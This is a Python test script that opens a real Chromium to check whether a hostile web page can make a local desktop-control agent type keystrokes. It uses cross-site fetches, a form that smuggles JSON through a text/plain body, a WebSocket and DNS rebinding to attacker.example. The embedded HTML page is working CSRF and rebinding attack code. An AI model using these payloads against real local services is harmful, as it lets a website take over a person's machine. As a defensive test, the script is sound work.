"""What a web page in the person's browser can do to the agent: shown with a real Chromium.

A page from one site tries to have the agent do something on another (cross-site requests, also as a form and as plain
text, which browsers send without asking first), and a page whose own name was rebound to 127.0.0.1 tries the same as
one site. Every request that could act must be refused; what each attempt came to is printed. Status 0 when none acted.
"""

import argparse
import http.client
import http.server
import json
import os
import subprocess
import sys
import threading
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "tools/lib"))
from agent import Agent  # noqa: E402
from chromium import CHROMIUM  # noqa: E402
from private_desktop import PrivateDesktop, exit_on_signals, wait_for  # noqa: E402

# What the page does; it tells its own server what came of it. SHOWN is whether a script could read the answer.
PAGE = """<!doctype html><title>Attack</title><iframe name=sink></iframe>
<form id=form method=post enctype=text/plain target=sink action="AGENT/keystrokes">
<input name='{"text":"typed by a page","x":"' value='"}'></form>
<script>
const body = JSON.stringify({text: "typed by a page"});
const attempts = {
  "plain text, not read": () => fetch("AGENT/keystrokes", {method: "POST", mode: "no-cors", body}),
  "plain text, read": () => fetch("AGENT/keystrokes", {method: "POST", body}),
  "JSON": () => fetch("AGENT/keystrokes", {method: "POST", body, headers: {"Content-Type": "application/json"}}),
  "a guessed token": () => fetch("AGENT/keystrokes", {method: "POST", body, headers: {"x-varkel-token": "guess"}}),
  "an empty token": () => fetch("AGENT/keystrokes", {method: "POST", body, headers: {"x-varkel-token": ""}}),
  "the health check": () => fetch("AGENT/health"),
  "a WebSocket": () => new Promise((done, failed) => {
    const socket = new WebSocket("AGENT/keystrokes".replace("http", "ws"));
    socket.onopen = () => done({status: "open", text: () => ""});
    socket.onerror = () => failed(new Error("refused"));
  }),
};
(async () => {
  const results = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      const answer = await attempt();
      results[name] = answer.type === "opaque" ? "sent, answer not shown" : answer.status + " " + await answer.text();
    } catch (error) { results[name] = "refused by the browser: " + error.message; }
  }
  document.getElementById("form").submit();
  results["a form"] = "sent";
  await fetch("REPORT", {method: "POST", mode: "no-cors", body: JSON.stringify(results)});
})();
</script>
"""


class Site(http.server.ThreadingHTTPServer):
    """Serves the page and takes its report. With the agent's own port, at another address, it passes on everything
    else to the agent: to the browser, and to the agent, that is a name that was rebound after the page was loaded."""

    def __init__(self, agent_port=None):
        super().__init__(("127.0.0.2" if agent_port else "127.0.0.1", agent_port or 0), Handler)
        self.agent_port, self.page, self.report = agent_port, "", None
        threading.Thread(target=self.serve_forever, daemon=True).start()


class Handler(http.server.BaseHTTPRequestHandler):
    def pass_on(self):
        try:
            self.forward()
        except OSError:
            self.close_connection = True  # the agent has ended, or the browser

    def forward(self):
        connection = http.client.HTTPConnection("127.0.0.1", self.server.agent_port, timeout=10)
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        connection.request(self.command, self.path, body, dict(self.headers))
        answer = connection.getresponse()
        content = answer.read()
        self.send_response(answer.status)
        for name, value in answer.getheaders():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(content)
        connection.close()

    def do_OPTIONS(self):
        self.pass_on()

    def do_GET(self):
        if self.path != "/":
            return self.pass_on()
        page = self.server.page.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(page)))
        self.end_headers()
        self.wfile.write(page)

    def do_POST(self):
        if self.path != "/report":
            return self.pass_on()
        self.server.report = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_):
        pass


def visit(desktop, agent, name, page_host, agent_host):
    """Opens the page of one site in a fresh browser and gives its report."""
    site = Site(agent.port if page_host == agent_host else None)
    address, port = site.server_address
    site.page = PAGE.replace("AGENT", f"http://{agent_host}:{agent.port}").replace(
        "REPORT", f"http://{page_host}:{port}/report")
    profile = os.path.join(desktop.directory, "chromium-" + name.replace(" ", "-"))
    browser = desktop.start([*CHROMIUM, f"--user-data-dir={profile}",
                             f"--host-resolver-rules=MAP *.example {address}", f"http://{page_host}:{port}/"])
    wait_for(lambda: site.report, 60, f"the report of the page from {page_host}")
    desktop.stop(browser)
    site.shutdown()
    print(f"{name}: a page of http://{page_host} asks http://{agent_host}")
    for attempt, outcome in site.report.items():
        print(f"  {attempt:<22} {outcome}")
    return site.report


def main():
    parser = argparse.ArgumentParser(prog="tools/bench browser", description=__doc__)
    parser.parse_args()
    exit_on_signals()
    with PrivateDesktop() as desktop:
        agent = Agent(desktop.start, desktop.directory)
        # Takes every key that anybody sends to the desktop.
        log = os.path.join(desktop.directory, "keys")
        with open(log, "wb") as output:
            listener = desktop.start(["xinput", "test-xi2", "--root"], stdout=output, stderr=subprocess.DEVNULL)
        reports = [visit(desktop, agent, "cross-site", "attacker.example", "127.0.0.1"),
                   visit(desktop, agent, "rebound name", "attacker.example", "attacker.example")]
        # A key that the token's owner sends: the listener would have heard the others.
        answer = agent.request("POST", "/keystrokes", {"keys": ["a"]})
        wait_for(lambda: b"RawKeyPress" in Path(log).read_bytes(), 10, "the listener to hear a key")
        pressed = Path(log).read_bytes().count(b"(RawKeyPress)")
        desktop.stop(listener)
    health = reports[1]["the health check"]
    acted = [f"{name}: {outcome}" for report in reports for name, outcome in report.items()
             if outcome.startswith("200") and name != "the health check"]
    print(f"keys that reached the desktop: {pressed}, all of them by the request with the token ({answer.status})")
    print(f"a rebound name reads the health check: {health}")
    if acted or pressed != 1:
        print("Something acted:", acted)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
